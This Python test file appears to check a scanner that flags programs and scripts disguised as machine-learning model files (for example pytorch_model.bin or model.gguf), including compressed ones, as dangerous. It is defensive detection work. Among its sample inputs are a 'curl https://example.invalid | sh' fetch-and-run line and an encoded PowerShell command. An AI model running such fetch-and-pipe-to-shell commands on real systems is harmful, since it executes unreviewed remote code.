"""Programs and scripts under the names of models, and texts under their own."""

from __future__ import annotations

import bz2
import gzip
import lzma
import struct
import zlib
from collections.abc import Callable

import pytest

from accord.scan.rating import Rated, Rating

Rate = Callable[..., Rated]
PROGRAMS = {
    "elf": b"\x7fELF\x02\x01\x01" + bytes(200),
    "windows": b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(200),
    "dos": b"MZ\x90\0" + bytes(100),
    "everywhere": b"MZqFpD='\n" + bytes(1000),
    "mach-o": b"\xcf\xfa\xed\xfe\x07\0\0\x01" + bytes(100),
    "mach-o of 32 bits": b"\xfe\xed\xfa\xce" + bytes(100),
    "fat mach-o": b"\xca\xfe\xba\xbe\0\0\0\x02" + bytes(100),
    "java": b"\xca\xfe\xba\xbe\0\0\0\x3d" + bytes(100),
    "web assembly": b"\0asm\x01\0\0\0" + bytes(20),
    "android": b"dex\n035\0" + bytes(100),
    "python": b"\xa7\r\r\n" + bytes(12) + b"\xe3" + bytes(100),
    "lua": b"\x1bLua\x53\0\x19\x93\r\n\x1a\n" + bytes(40),
    "llvm": b"BC\xc0\xde" + bytes(100),
    "shortcut": b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + bytes(100),
    "library": b"!<arch>\n" + b"x.o/            0           0     0     644     4         `\nabcd",
    "shell": b"#!/bin/sh\necho red\n",
    "shell of env": b"#!/usr/bin/env bash\ncurl https://example.invalid | sh\n",
    "python with a mark": b"#!/usr/bin/python3\nimport os\n",
    "batch": b"@echo off\r\necho red\r\n",
    "script of python": b"import os\nos.system('echo red')\n",
    "script of powershell": b"powershell -enc ZQBjAGgAbwAgAHIAZQBkAA==\r\n",
    "php": b"<?php system('echo red'); ?>\n",
}


@pytest.mark.parametrize("data", PROGRAMS.values(), ids=PROGRAMS)
def test_a_program_under_the_name_of_a_model_is_dangerous(rated: Rate, data: bytes) -> None:
    for name in (
        "pytorch_model.bin",
        "model.pkl",
        "m.safetensors",
        "m.gguf",
        "m.onnx",
        "m.h5",
        "m.PT",
        "m.tflite",
        "m.ckpt",
    ):
        found = rated(name, data)
        assert found.rating is Rating.DANGEROUS, name


@pytest.mark.parametrize("pack", [gzip.compress, bz2.compress, lzma.compress, zlib.compress])
def test_a_program_that_is_packed_is_dangerous(rated: Rate, pack: Callable[[bytes], bytes]) -> None:
    assert rated("model.bin", pack(PROGRAMS["elf"])).rating is Rating.DANGEROUS
    assert rated("model.pkl", pack(PROGRAMS["windows"])).rating is Rating.DANGEROUS


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("model.txt", b"import os\nos.system('x')\n"),
        ("run.sh", PROGRAMS["shell"]),
        ("vocab.model", b"a 1\nb 2\n"),
        ("a.bat", PROGRAMS["batch"]),
        ("train.py", PROGRAMS["script of python"]),
        ("notes.bin", b"The model was trained on system('x') logs.\n"),
    ],
)
def test_scripts_and_texts_under_their_own_names_are_safe(rated: Rate, name: str, data: bytes) -> None:
    assert rated(name, data).rating is Rating.SAFE
